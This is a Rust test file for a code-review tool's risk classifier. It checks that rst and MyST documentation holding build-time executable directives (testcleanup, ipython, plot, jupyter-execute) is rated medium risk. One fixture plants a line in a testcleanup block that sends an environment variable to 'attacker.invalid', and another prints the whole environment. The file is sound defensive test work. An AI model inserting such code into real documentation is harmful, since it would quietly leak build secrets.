//! The built-in risk policy v6 (D-R143) on a real repository: documents
//! whose directives Sphinx, MyST or Jupyter run when the docs are built
//! or doctested are not `docs_only` (red team round 6, finding 3). v5 rated
//! each change below low: `.. testcleanup::` (a sibling of the listed
//! `testsetup`), `.. ipython::`, `.. plot::`, `.. jupyter-execute::`, a
//! MyST colon fence `:::{jupyter-execute}`, all with rst's 3-space body
//! indentation (v5's indented-code rule counts 4). The classifier's every
//! rule is tested with plain values in core (`risk::tests::v6_*`); here
//! `probity start --json` rates what the git adapter observes.

mod support;

use support::*;

/// `start` on `path` holding `text` (a fresh repository, the change
/// uncommitted): the newest policy's hash, tier and reasons.
fn started_with(path: &str, text: &str) -> serde_json::Value {
    let f = parser_base();
    f.write(path, text).unwrap();
    let st = probity_ok(f.root(), &["start"]).json;
    let newest = probity_core::review::RiskPolicy::newest_hash().to_string();
    assert_eq!(st["policy_hash"], newest.as_str(), "{st}");
    st
}

fn assert_doc_code(st: &serde_json::Value, what: &str) {
    assert_eq!(st["risk_level"], "medium", "{what}: {st}");
    assert_eq!(
        st["risk_reasons"],
        serde_json::json!(["doc_code_block"]),
        "{what}: {st}"
    );
    assert_eq!(st["selected_lenses"].as_array().unwrap().len(), 1, "{st}");
}

/// The red team's document: code a doctest build runs, in the rst way
/// (3-space bodies), under `testcleanup` and `ipython`.
#[test]
fn an_rst_document_with_executable_directives_is_not_docs_only() {
    let rst = "Usage\n=====\n\nCall ``parse()``.\n\n.. testcleanup::\n\n   \
               import os, urllib.request\n   \
               urllib.request.urlopen(\"https://attacker.invalid/c?\" + os.environ.get(\"T\", \"\"))\n\n\
               .. ipython:: python\n\n   In [1]: import os\n";
    assert_doc_code(&started_with("docs/usage.rst", rst), "testcleanup");
    // Each directive alone, the body indented 3 columns, or a file named.
    for text in [
        ".. testcleanup::\n\n   cleanup()\n",
        ".. ipython::\n\n   In [1]: x = 1\n",
        ".. plot::\n\n   import matplotlib\n",
        ".. plot:: pyplots/ellipses.py\n",
        ".. jupyter-execute::\n\n   print(1)\n",
    ] {
        let text = format!("Title\n=====\n\n{text}");
        assert_doc_code(&started_with("docs/usage.rst", &text), &text);
    }
}

/// MyST: a directive in a colon fence (`:::{jupyter-execute}`) and in a
/// backtick fence (```` ```{ipython} ````, which v5's fence marker already
/// rated medium).
#[test]
fn myst_fenced_directives_are_not_docs_only() {
    for text in [
        "# Usage\n\n:::{jupyter-execute}\nimport os\nprint(os.environ)\n:::\n",
        "# Usage\n\n:::{testcode}\nprint(1)\n:::\n",
        "# Usage\n\n```{ipython}\nIn [1]: import os\n```\n",
    ] {
        assert_doc_code(&started_with("docs/usage.md", text), text);
    }
}

/// Directives that show but never run their content stay low: an
/// admonition in rst and in MyST, an image, a table of contents.
#[test]
fn inert_directives_stay_docs_only() {
    for (path, text) in [
        (
            "docs/usage.rst",
            "Usage\n=====\n\n.. note::\n\n   Call ``parse()`` first.\n\n\
             .. image:: logo.png\n\n.. toctree::\n   :maxdepth: 2\n\n   intro\n",
        ),
        (
            "docs/usage.md",
            "# Usage\n\n:::{note}\nCall `parse()` first.\n:::\n",
        ),
    ] {
        let st = started_with(path, text);
        assert_eq!(st["risk_level"], "low", "{path}: {st}");
        assert_eq!(st["risk_reasons"], serde_json::json!(["docs_only"]), "{st}");
    }
}
